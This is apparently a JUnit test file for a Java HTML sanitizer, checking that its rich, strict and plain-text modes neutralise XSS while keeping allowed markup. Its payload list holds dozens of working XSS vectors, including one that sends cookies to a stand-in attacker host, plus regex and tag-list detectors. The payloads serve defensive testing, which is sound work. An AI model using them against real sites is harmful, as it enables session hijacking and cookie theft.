package io.ansaf.text;

import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import java.util.Locale;
import java.util.function.UnaryOperator;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.owasp.html.Encoding;

class HtmlSanitizerTest {
    // An attribute whose name starts with "on" inside a tag; escaped text such as "onerror&#61;" is
    // harmless.
    private static final Pattern EVENT_HANDLER =
            Pattern.compile("(?i)<[a-z][^>]*[\\s/\"']on[a-z]+\\s*=");
    private static final Pattern INVISIBLE = Pattern.compile("[\\s\\p{Cc}]+");
    private static final List<String> FORBIDDEN_TAGS =
            List.of(
                    "<script", "<svg", "<iframe", "<style", "<object", "<embed", "<form", "<base",
                    "<meta");

    static Stream<String> xssPayloads() {
        return Stream.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
                "<script type=\"text/javascript\">document.location='https://evil.example/?c='+document.cookie</script>",
                "<img src=x onerror=alert(1)>",
                "<img src=\"https://example.com/a.png\" onerror=\"alert(1)\">",
                "<IMG SRC=\"javascript:alert('XSS');\">",
                "<img src=javascript:alert(1)>",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
                "<a href=\"javascript:alert(1)\">click</a>",
                "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
                "<a href=\"jav&#x09;ascript:alert(1)\">click</a>",
                "<a href=\"jav\tascript:alert(1)\">click</a>",
                "<a href=\"&#106;avascript:alert(1)\">click</a>",
                "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">click</a>",
                "<a href=\"  javascript:alert(1)\">click</a>",
                "<a href=\"vbscript:msgbox(1)\">click</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">click</a>",
                "<a href=\"data:text/html,<script>alert(1)</script>\">click</a>",
                "<a href=https://example.com onclick=alert(1) onmouseover=alert(2)>ok</a>",
                "<iframe src=\"https://evil.example\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<object data=\"https://evil.example/x.swf\"></object>",
                "<embed src=\"https://evil.example/x.swf\">",
                "<style>body{background:url(\"javascript:alert(1)\")}</style>",
                "<p style=\"background:url(javascript:alert(1))\">styled</p>",
                "<div style=\"width: expression(alert(1))\">old ie</div>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<math href=\"javascript:alert(1)\">CLICKME</math>",
                "<form action=\"https://evil.example\"><button formaction=javascript:alert(1)>go</button></form>",
                "<form><input type=submit formaction=javascript:alert(1)></form>",
                "<body onload=alert(1)>",
                "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
                "<base href=\"https://evil.example/\">",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<<script>script>alert(1)<</script>/script>",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "<details open ontoggle=alert(1)>",
                "<video><source onerror=\"alert(1)\"></video>",
                "<audio src=x onerror=alert(1)>",
                "<input autofocus onfocus=alert(1)>",
                "<select autofocus onfocus=alert(1)>",
                "<textarea autofocus onfocus=alert(1)>x</textarea>",
                "<marquee onstart=alert(1)>scroll</marquee>",
                "<DIV ONMOUSEOVER=alert(1)>upper</DIV>",
                "<P ONCLICK=alert(1)>Upper case paragraph</P>",
                "<img src=x:alert(alt) onerror=eval(src) alt=0>",
                "<img/src=x/onerror=alert(1)>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<!--<script>alert(1)</script>-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<a href=\"https://example.com\" target=\"_blank\" rel=\"opener\">tab</a>",
                "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
                "<link rel=stylesheet href=\"javascript:alert(1)\">",
                "<object><param name=src value=javascript:alert(1)></object>",
                "<code class=\"language-js onclick=alert(1)\">x</code>",
                "<a href=\"java&#0000115;cript:alert(1)\">click</a>",
                "<a href=\"javascript&colon;alert(1)\">click</a>",
                "<a href=\"&Tab;javascript:alert(1)\">click</a>",
                "<isindex type=image src=1 onerror=alert(1)>",
                "<x onclick=alert(1)>custom element</x>");
    }

    static Stream<Arguments> payloadsForBothPolicies() {
        return xssPayloads()
                .flatMap(p -> Stream.of(Arguments.of("rich", p), Arguments.of("strict", p)));
    }

    @ParameterizedTest(name = "{0}: {1}")
    @MethodSource("payloadsForBothPolicies")
    void neutralisesXss(String policy, String payload) {
        UnaryOperator<String> sanitizer =
                policy.equals("rich") ? HtmlSanitizer::rich : HtmlSanitizer::strict;
        String out = sanitizer.apply(payload);
        String lower = out.toLowerCase(Locale.ROOT);
        String decoded =
                INVISIBLE.matcher(Encoding.decodeHtml(out).toLowerCase(Locale.ROOT)).replaceAll("");
        assertAll(
                out,
                () -> assertFalse(EVENT_HANDLER.matcher(out).find(), "event handler attribute"),
                () -> assertFalse(lower.contains("javascript:"), "javascript: URL"),
                () -> assertFalse(decoded.contains("javascript:"), "javascript: URL once decoded"),
                () -> assertFalse(decoded.contains("vbscript:"), "vbscript: URL once decoded"),
                () -> assertFalse(lower.contains("data:"), "data: URL"),
                () -> assertFalse(lower.contains("style="), "style attribute"),
                () -> FORBIDDEN_TAGS.forEach(tag -> assertFalse(lower.contains(tag), tag)));
    }

    @Test
    void nullStaysNull() {
        assertNull(HtmlSanitizer.rich(null));
        assertNull(HtmlSanitizer.strict(null));
        assertNull(HtmlSanitizer.plainText(null));
    }

    @Test
    void doubleEncodedMarkupStaysText() {
        assertEquals(
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                HtmlSanitizer.rich("&lt;script&gt;alert(1)&lt;/script&gt;"));
        assertEquals("&lt;b&gt;", HtmlSanitizer.strict("&lt;b&gt;"));
    }

    @Test
    void richKeepsHeadingsAndStructure() {
        String html =
                "<h1>Title</h1><h2>Sub</h2><h6>Small</h6><p>Text with <strong>bold</strong>, <em>em</em>,"
                        + " <u>u</u>, <s>s</s>, <sub>1</sub>, <sup>2</sup>, <mark>m</mark> and <small>fine</small>.</p><hr>"
                        + "<ul><li>one</li></ul><ol><li>two</li></ol><dl><dt>term</dt><dd>definition</dd></dl>";
        assertEquals(
                "<h1>Title</h1><h2>Sub</h2><h6>Small</h6><p>Text with <strong>bold</strong>, <em>em</em>,"
                        + " <u>u</u>, <s>s</s>, <sub>1</sub>, <sup>2</sup>, <mark>m</mark> and <small>fine</small>.</p><hr />"
                        + "<ul><li>one</li></ul><ol><li>two</li></ol><dl><dt>term</dt><dd>definition</dd></dl>",
                HtmlSanitizer.rich(html));
    }

    @Test
    void richKeepsTablesWithSpans() {
        String html =
                "<table><caption>Prices</caption><thead><tr><th colspan=\"2\">Item</th></tr></thead>"
                        + "<tbody><tr><td rowspan=\"2\">a</td><td>b</td></tr></tbody><tfoot><tr><td>c</td></tr></tfoot></table>";
        assertEquals(html, HtmlSanitizer.rich(html));
    }

    @Test
    void richDropsNonNumericSpans() {
        assertEquals(
                "<table><tbody><tr><td>x</td></tr></tbody></table>",
                HtmlSanitizer.rich(
                        "<table><tr><td colspan=\"all\" rowspan=\"0\">x</td></tr></table>"));
    }

    @Test
    void richKeepsCodeBlocksWithLanguageClassOnly() {
        assertEquals(
                "<pre><code class=\"language-java\">int x &#61; 1;</code></pre>",
                HtmlSanitizer.rich("<pre><code class=\"language-java\">int x = 1;</code></pre>"));
        // The sanitizer writes '+' as &#43; even inside attribute values; browsers decode it back.
        assertEquals(
                "<pre class=\"language-c&#43;&#43;\"><code class=\"language-c#\">x</code></pre>",
                HtmlSanitizer.rich(
                        "<pre class=\"language-c++\"><code class=\"language-c#\">x</code></pre>"));
        assertEquals("<code>x</code>", HtmlSanitizer.rich("<code class=\"admin-banner\">x</code>"));
        assertEquals(
                "<code>x</code>",
                HtmlSanitizer.rich("<code class=\"language-java extra\">x</code>"));
        assertEquals("<p>x</p>", HtmlSanitizer.rich("<p class=\"language-java\">x</p>"));
    }

    @Test
    void richKeepsBlockquote() {
        assertEquals(
                "<blockquote><p>Quoted</p></blockquote>",
                HtmlSanitizer.rich(
                        "<blockquote cite=\"https://example.com\"><p>Quoted</p></blockquote>"));
    }

    @Test
    void richKeepsHttpsImages() {
        assertEquals(
                "<img src=\"https://example.com/a.png\" alt=\"A cat\" title=\"Cat\" width=\"640\" height=\"480\" />",
                HtmlSanitizer.rich(
                        "<img src=\"https://example.com/a.png\" alt=\"A cat\" title=\"Cat\" width=\"640\""
                                + " height=\"480\" loading=\"lazy\" id=\"x\">"));
        assertEquals(
                "<img src=\"http://example.com/a.png\" />",
                HtmlSanitizer.rich("<img src=\"http://example.com/a.png\">"));
    }

    @Test
    void richDropsImagesWithoutAbsoluteHttpSource() {
        assertEquals("", HtmlSanitizer.rich("<img src=\"/uploads/a.png\">"));
        assertEquals("", HtmlSanitizer.rich("<img src=\"data:image/png;base64,iVBORw0KGgo=\">"));
        assertEquals("", HtmlSanitizer.rich("<img src=\"ftp://example.com/a.png\">"));
        assertEquals(
                "",
                HtmlSanitizer.rich(
                        "<img src=\"javascript:alert(1)\" alt=\"kept alt would be a broken image\">"));
        assertEquals(
                "<img src=\"https://example.com/a.png\" />",
                HtmlSanitizer.rich(
                        "<img src=\"https://example.com/a.png\" width=\"100%\" height=\"auto\">"));
    }

    @Test
    void richLinksGetRelAndLoseTarget() {
        assertEquals(
                "<a href=\"https://example.com\" rel=\"nofollow noopener\">site</a>",
                HtmlSanitizer.rich(
                        "<a href=\"https://example.com\" target=\"_blank\" rel=\"opener\">site</a>"));
        assertEquals(
                "<a href=\"/posts/hello\" rel=\"nofollow noopener\">relative</a>",
                HtmlSanitizer.rich("<a href=\"/posts/hello\">relative</a>"));
        assertTrue(
                HtmlSanitizer.rich("<a href=\"mailto:me@example.com\">mail</a>")
                        .matches("<a href=\"mailto:[^\"]+\" rel=\"nofollow noopener\">mail</a>"));
        assertEquals("text", HtmlSanitizer.rich("<a name=\"anchor\">text</a>"));
    }

    @Test
    void richAllowsSpanAndDivWithoutAttributes() {
        assertEquals(
                "<div><span>x</span></div>",
                HtmlSanitizer.rich(
                        "<div id=\"a\" class=\"b\"><span style=\"color:red\">x</span></div>"));
    }

    @Test
    void richDropsFormsAndEmbedsButKeepsHarmlessText() {
        assertEquals("go", HtmlSanitizer.rich("<form><button>go</button></form>"));
        assertEquals(
                "", HtmlSanitizer.rich("<iframe src=\"https://example.com\">fallback</iframe>"));
    }

    @Test
    void strictDropsStructureButKeepsEmphasis() {
        String html =
                "<h1>Heading</h1><p>I <strong>really</strong> <em>like</em> <code>x</code></p>"
                        + "<img src=\"https://example.com/a.png\"><table><tr><td>cell</td></tr></table>"
                        + "<blockquote>q</blockquote><ul><li>item</li></ul>";
        String out = HtmlSanitizer.strict(html);
        assertEquals(
                "Heading<p>I <strong>really</strong> <em>like</em> <code>x</code></p>cellqitem",
                out);
    }

    @Test
    void strictKeepsAbsoluteLinksWithRel() {
        assertEquals(
                "<a href=\"https://example.com/x?a&#61;1\" rel=\"nofollow noopener\">x</a>",
                HtmlSanitizer.strict(
                        "<a href=\"https://example.com/x?a=1\" target=\"_blank\">x</a>"));
        assertEquals(
                "<a href=\"http://example.com\" rel=\"nofollow noopener\">x</a>",
                HtmlSanitizer.strict("<a href=\"http://example.com\">x</a>"));
        assertTrue(
                HtmlSanitizer.strict("<a href=\"mailto:me@example.com\">x</a>")
                        .contains("rel=\"nofollow noopener\""));
    }

    @Test
    void strictDropsRelativeLinksAndClasses() {
        assertEquals("x", HtmlSanitizer.strict("<a href=\"/admin\">x</a>"));
        assertEquals(
                "<code>x</code>", HtmlSanitizer.strict("<code class=\"language-java\">x</code>"));
        assertEquals("a<br />b", HtmlSanitizer.strict("a<br>b"));
    }

    @Test
    void plainTextRemovesTagsAndDecodesEntities() {
        assertEquals("Tom & Jerry", HtmlSanitizer.plainText("Tom &amp; Jerry"));
        assertEquals("Hello world", HtmlSanitizer.plainText("<b>Hello</b> <i>world</i>"));
        assertEquals("Crème brûlée", HtmlSanitizer.plainText("Cr&egrave;me br&#251;l&#xe9;e"));
        assertEquals("1 < 2 and 3 > 2", HtmlSanitizer.plainText("1 &lt; 2 and 3 &gt; 2"));
        assertEquals(
                "\"quoted\" 'single'",
                HtmlSanitizer.plainText("&quot;quoted&quot; &#39;single&#39;"));
    }

    @Test
    void plainTextDropsScriptAndStyleContent() {
        assertEquals("Hello", HtmlSanitizer.plainText("<script>alert(1)</script>Hello"));
        assertEquals("Hello", HtmlSanitizer.plainText("<style>p{color:red}</style>Hello"));
        assertEquals(
                "Hello", HtmlSanitizer.plainText("<iframe src=x></iframe>Hello<!-- comment -->"));
    }

    @Test
    void plainTextSeparatesBlocksAndCollapsesWhitespace() {
        assertEquals("First Second", HtmlSanitizer.plainText("<p>First</p><p>Second</p>"));
        assertEquals("a b c", HtmlSanitizer.plainText("a<br>b<br/>c"));
        assertEquals("one two", HtmlSanitizer.plainText("<ul><li>one</li><li>two</li></ul>"));
        assertEquals("Hello", HtmlSanitizer.plainText("Hel<b>lo</b>"));
        assertEquals("a b c", HtmlSanitizer.plainText("  a \t\n b&nbsp;&nbsp; c  "));
        assertEquals("", HtmlSanitizer.plainText("   "));
    }

    @Test
    void plainTextLeavesNoTagEvenWhenEncoded() {
        assertEquals("Hi", HtmlSanitizer.plainText("&lt;script&gt;alert(1)&lt;/script&gt;Hi"));
        assertEquals("Why soup hurts", HtmlSanitizer.plainText("Why &lt;div&gt; soup hurts"));
        // Decoded once, triple encoding leaves entity text, which even an unescaped renderer shows
        // as text.
        assertEquals(
                "&lt;img src=x onerror=alert(1)&gt;x",
                HtmlSanitizer.plainText("&amp;lt;img src=x onerror=alert(1)&amp;gt;x"));
        for (String s :
                List.of(
                        "<scr<script>ipt>alert(1)</script>",
                        "<svg onload=alert(1)>t",
                        "<img src=x onerror=alert(1)>",
                        "&lt;&lt;b&gt;b&gt;",
                        "<<script>script>alert(1)<</script>/script>")) {
            String out = HtmlSanitizer.plainText(s);
            assertFalse(Pattern.compile("<[a-zA-Z/!?]").matcher(out).find(), s + " gave " + out);
        }
    }
}
